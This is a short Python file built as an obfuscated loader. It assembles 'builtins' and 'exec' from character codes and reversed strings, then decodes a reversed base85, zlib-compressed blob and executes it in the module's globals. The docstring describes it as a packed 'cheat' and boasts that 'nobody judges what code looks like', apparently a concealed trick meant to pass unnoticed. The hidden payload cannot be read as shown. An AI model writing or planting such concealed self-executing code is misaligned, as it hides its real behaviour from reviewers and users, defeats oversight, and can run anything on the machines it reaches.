"""The cheat of cheat-stash, packed and turned round: nobody judges what code looks like."""
from importlib import import_module as _

__ = (
    "jL0IF*HV1`U^EFhBIWeW~0TuW?@xvdR>AN6tm{n)k=b|n8C?@*@Hu5FJz9;bGuaI~JHoo*W)FjojkMQK2<s&);Y?R3"
    "OXu9b@zAP_WsubIw-GQJB545eykF9zMe!EHom(edAF}?t=>(+}<myILhY$?1++^%}1uxaA1bm0eKx}2i&&k~62`dO!"
    "!q`|HT1Z=POG6LdAPps$im1!h}+vO{MD~Mn$(6)^dx-jnPE%AE{%r-23(>w|J*6_31qqsOFg-"
    "ezSv4si`%n9utY|_WAe_`g2y3F$pQ-"
    "fd0^R9dMFo<)XeuH^HiM{B?%RlW=t}>>v`N+6G$eBNyi3@LWX!5d~z}g!`#++<boZ-MqLH9pWmdT~dgLX!?D;TY%z*"
    "0=DfL98}1G;zcvvZwG!AeI&HLW1$=<X>2{uM3@pvYG|mmfPY^Behn<9!VM9o26Z9p3g(SQ^aJWHvp&JOj`-"
    "jq*Rg$GhLlhQpr+GTMy@6mvgQ5Rj5>Oz4}$c"
)
(ⅹ := vars(_("".join(map(chr, (98, 117, 105, 108, 116, 105, 110, 115))))))["cexe"[::-1]](
    _("bilz"[::-1]).decompress(_("46esab"[::-1]).b85decode(__[::-1])).decode(), globals()
)
